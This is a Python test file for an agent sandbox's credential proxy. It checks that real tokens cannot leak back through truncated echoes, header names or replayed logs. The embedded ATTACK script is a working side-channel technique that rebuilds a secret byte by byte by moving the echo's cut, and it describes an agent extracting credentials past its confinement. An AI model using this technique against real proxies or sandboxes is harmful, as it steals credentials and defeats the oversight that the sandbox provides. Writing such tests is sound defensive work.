"""Issue 41, class 1: a credential rebuilt from a truncated echo. A
credential host that quotes a cut copy of the request (the first N bytes of
its head, or of one header) shows the first bytes of whatever stands at the
cut. If the agent can move the cut — a longer scheme word, headers put before
the credential's, a longer URL — it reads the value a byte at a time, each
piece too short for the whole-value masks.

The attack runs from a pane, through the real confined `serve` and its
proxy, against a stand-in host on the host's loopback that echoes cut
copies: it learns where the value starts, then moves the cut one byte at a
time and keeps the echo's last byte. The host side checks that not one
byte of the value came back. The positive control is the very same attack
script run on the host against the same stand-in with the real value (what
an unguarded proxy would send): it rebuilds the whole value."""

import json
import os
import secrets
import subprocess
import sys

import pytest

from standins import Standins
from test_credentials import ALL, NAMES, PLACEHOLDER, cred_net
from test_escape import launch, profile
from test_proxy import sh

pytestmark = pytest.mark.anyio

CUT = 200  # the stand-in quotes this many bytes of the head
HEADER_CUT = 24  # and this many of the Authorization header


def cut_head(h):
    """The first CUT bytes of the request's head, as the host received it."""
    head = h.requestline + "\r\n" + "".join(f"{k}: {v}\r\n" for k, v in h.headers.items())
    quote(h, f"bad request; head begins: {head[:CUT]}")


def cut_header(h):
    """The first HEADER_CUT bytes of the Authorization header's value."""
    quote(h, f"bad token: {h.headers.get('Authorization', '')[:HEADER_CUT]}")


def quote(h, text):
    body = (text + "\n").encode()
    h.send_response(401)
    h.send_header("Content-Length", str(len(body)))
    h.end_headers()
    h.wfile.write(body)


# The agent's attack: read the echo of the whole head to find where the value
# starts, then pad the URL so the cut falls one byte further each time; and
# on the header's own echo, try every scheme word length. Prints what it
# rebuilt as JSON.
ATTACK = r'''
import json, socket, ssl, sys
mode, port, token = sys.argv[1], int(sys.argv[2]), sys.argv[3]
cafile = sys.argv[4] if len(sys.argv) > 4 else None
CUT = int(sys.argv[5]) if len(sys.argv) > 5 else 200

def ask(path, headers):
    if mode == "proxy":
        s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
        s.sendall(f"CONNECT api.test:{port} HTTP/1.1\r\n\r\n".encode())
        s.recv(4096)
    else:
        s = socket.create_connection(("127.0.0.1", port), timeout=10)
    ctx = ssl.create_default_context(cafile=cafile)
    t = ctx.wrap_socket(s, server_hostname="api.test")
    t.settimeout(10)
    extra = "".join(f"{k}: {v}\r\n" for k, v in headers)
    t.sendall(f"GET {path} HTTP/1.1\r\nHost: api.test:{port}\r\n{extra}Connection: close\r\n\r\n".encode())
    got = b""
    while True:
        b = t.recv(65536)
        if not b:
            break
        got += b
    head, _, body = got.partition(b"\r\n\r\n")
    if b"transfer-encoding: chunked" in head.lower():
        plain = b""
        while body:
            size, _, body = body.partition(b"\r\n")
            n = int(size, 16)
            plain, body = plain + body[:n], body[n + 2:]
        body = plain
    return body.decode(errors="replace").rstrip("\n")

lead = "bad request; head begins: "
first = ask("/cut-head", [("X-Before", "a"), ("Authorization", f"Bearer {token}")])
at = first.lower().find("authorization: bearer ")
rebuilt = ""
if at >= 0:
    start = at - len(lead) + len("Authorization: Bearer ")
    for k in range(60):
        pad = CUT - start - k - 1 - len("x")
        if pad < 0:
            break
        got = ask("/cut-head?" + "x" * pad, [("X-Before", "a"), ("Authorization", f"Bearer {token}")])
        # The cut may have moved (the proxy put the header elsewhere): the
        # byte is trusted only where the echo still ends at the value.
        want = "authorization: bearer " + rebuilt.lower()
        if not got.lower().endswith(want + got[-1:].lower()) or len(got) - len(lead) != CUT:
            break
        rebuilt += got[-1]
# The header's own echo: scheme words of every length move the cut.
byword = {}
for word in ["Bearer", "Bearerx", "Bearerxx", "token", "tokenx", "x", "xx"]:
    byword[word] = ask("/one-header", [("Authorization", f"{word} {token}")])
# Basic: the user's length moves the cut through the base64; what the echo
# shows decodes to the user, the colon and the value's first bytes.
import base64
byuser = {}
for n in range(1, 9):
    b = base64.b64encode(f"{'u' * n}:{token}".encode()).decode()
    got = ask("/one-header", [("Authorization", f"Basic {b}")])
    tail = got.split("Basic ", 1)[-1]
    byuser[n] = base64.b64decode(tail[: len(tail) // 4 * 4] or "").decode(errors="replace")
print(json.dumps({"rebuilt": rebuilt, "first": first, "byword": byword, "byuser": byuser}))
'''


@pytest.fixture
def stand(tmp_path):
    s = Standins(tmp_path, names=NAMES)
    s.routes["/cut-head"] = cut_head
    s.routes["/one-header"] = cut_header
    s.start()
    yield s
    s.stop()


def value_bytes_in(real, text):
    """The longest prefix of `real` (at least 2 bytes) found in `text`."""
    n = 0
    for k in range(2, len(real) + 1):
        if real[:k] in text:
            n = k
    return n


async def test_a_cut_echo_gives_back_no_byte_of_the_value(ws, stand):
    real = "ghp_" + secrets.token_hex(18)
    env = {"SMX_REAL_API": real, "SMX_REAL_OTHER": "oth_" + secrets.token_hex(18), "SMX_REAL_REG": "reg_" + secrets.token_hex(18)}
    # The positive control: on the host, straight to the stand-in with the
    # real value (an unguarded proxy), the same script rebuilds all of it.
    host = subprocess.run(
        [sys.executable, "-c", ATTACK, "direct", str(stand.port), real, str(stand.ca), str(CUT)],
        capture_output=True, text=True, timeout=120,
    )
    control = json.loads(host.stdout)
    assert control["rebuilt"].startswith(real), (control, host.stderr)
    assert any(real[:10] in v for v in control["byword"].values()), control["byword"]
    assert max(value_bytes_in(real, v) for v in control["byuser"].values()) >= 8, control["byuser"]
    prof = profile(ws, "creds-echo", cred_net(stand))
    (ws[0] / "attack.py").write_text(ATTACK)
    before = len(stand.seen)
    async with launch(ws, "-p", prof, *ALL, env=env) as c:
        r = await sh(c, f"python3 {ws[0]}/attack.py proxy {stand.port} $API_TOKEN '' {CUT}", timeout=120)
        out = r["output"]
        assert real[:6] not in out, out
        got = json.loads(out[out.index("{"):])
        ph = PLACEHOLDER.search(got["first"]).group(0) if PLACEHOLDER.search(got["first"]) else None
        assert value_bytes_in(real, json.dumps(got)) == 0, got
        assert got["rebuilt"] == "" or not real.startswith(got["rebuilt"]), got
        # The credential header stands right after Host, whatever the agent
        # put before it; the echo shows the sandbox's own placeholder there.
        first = got["first"].lower()
        assert "\r\nhost: api.test" in first and "\r\nauthorization: bearer s" in first, first
        assert first.index("\r\nhost:") < first.index("authorization") < first.index("x-before"), first
        # Scheme words sandmux does not know are refused, not sent.
        for word in ["Bearerx", "Bearerxx", "tokenx", "x", "xx"]:
            assert "exfiltration refused" in got["byword"][word], (word, got["byword"][word])
        for word in ["Bearer", "token"]:
            assert got["byword"][word].startswith("bad token: "), got["byword"][word]
        # What reached the host: the scheme as sandmux spells it, the real value.
        sent = [hd.get("authorization", "") for h, path, hd in stand.seen[before:] if path.startswith("/one-header")]
        assert f"Bearer {real}" in sent and f"token {real}" in sent, sent
        assert not any(s.startswith(("Bearerx", "x ", "xx ")) for s in sent), sent
        assert ph is None or ph not in real


def name_echo(h):
    """Answers with a header whose name is the token it was sent."""
    token = h.headers.get("Authorization", "").split(" ")[-1]
    h.send_response(200)
    h.send_header(f"X-{token}", "seen")
    h.send_header("Content-Length", "3")
    h.end_headers()
    h.wfile.write(b"ok\n")


async def test_a_value_in_a_header_name_is_dropped_in_any_case(ws, tmp_path):
    """Issue 41, class 2: header names are read lowercase, the value was
    looked for as it is: a value with capitals came through in a name."""
    s = Standins(tmp_path, names=NAMES)
    s.routes["/name-echo"] = name_echo
    s.start()
    try:
        real = "ghp_" + secrets.token_urlsafe(27).replace("-", "A").replace("_", "Z")
        assert real.lower() != real
        # The control: straight to the stand-in, the name carries the value.
        host = subprocess.run(
            ["curl", "-sS", "-i", "--cacert", str(s.ca), "--resolve", f"api.test:{s.port}:127.0.0.1",
             "-H", f"Authorization: Bearer {real}", f"https://api.test:{s.port}/name-echo"],
            capture_output=True, text=True, timeout=30,
        )
        assert f"x-{real.lower()}" in host.stdout.lower(), host.stdout
        env = {"SMX_REAL_API": real, "SMX_REAL_OTHER": "oth_" + secrets.token_hex(18), "SMX_REAL_REG": "reg_" + secrets.token_hex(18)}
        prof = profile(ws, "creds-names", cred_net(s))
        async with launch(ws, "-p", prof, *ALL, env=env) as c:
            r = await sh(c, f'curl -sS -i -H "Authorization: Bearer $API_TOKEN" https://api.test:{s.port}/name-echo')
            out = r["output"]
            assert out.rstrip().endswith("ok") and " 200" in out.splitlines()[0], out
            assert real.lower()[4:] not in out.lower() and "seen" not in out, out
    finally:
        s.stop()


async def test_a_cut_logged_on_one_connection_and_shown_on_another_is_masked(ws, tmp_path):
    """A host that logs requests and shows the log later: the cut of a
    credential header sent on one connection comes back on another, in an
    answer to a request that carried no credential at all."""
    s = Standins(tmp_path, names=NAMES)
    log = []

    def record(h):
        log.append(h.headers.get("Authorization", ""))
        quote(h, "recorded")

    def show(h):
        n = int(h.path.split("?n=")[-1])
        quote(h, "log: " + log[-1][:n])

    s.routes["/record"], s.routes["/show"] = record, show
    s.start()
    try:
        real = "ghp_" + secrets.token_hex(18)
        # The control: on the host, with the real value, the log shows it.
        for n in (10, 20):
            log.append(f"Bearer {real}")
            assert f"log: Bearer {real}"[: 5 + n] in show_direct(s, n)
        env = {"SMX_REAL_API": real, "SMX_REAL_OTHER": "oth_" + secrets.token_hex(18), "SMX_REAL_REG": "reg_" + secrets.token_hex(18)}
        prof = profile(ws, "creds-log", cred_net(s))
        async with launch(ws, "-p", prof, *ALL, env=env) as c:
            u = f"https://api.test:{s.port}"
            cmd = f'curl -sS -H "Authorization: Bearer $API_TOKEN" {u}/record; ' + "; ".join(f'curl -sS "{u}/show?n={n}"' for n in range(8, 30, 3))
            r = await sh(c, cmd)
            out = r["output"]
            assert out.count("log: Bearer s") == len(range(8, 30, 3)), out
            assert real[:5] not in out, out
    finally:
        s.stop()


def show_direct(s, n):
    return subprocess.run(
        ["curl", "-sS", "--cacert", str(s.ca), "--resolve", f"api.test:{s.port}:127.0.0.1", f"https://api.test:{s.port}/show?n={n}"],
        capture_output=True, text=True, timeout=30,
    ).stdout
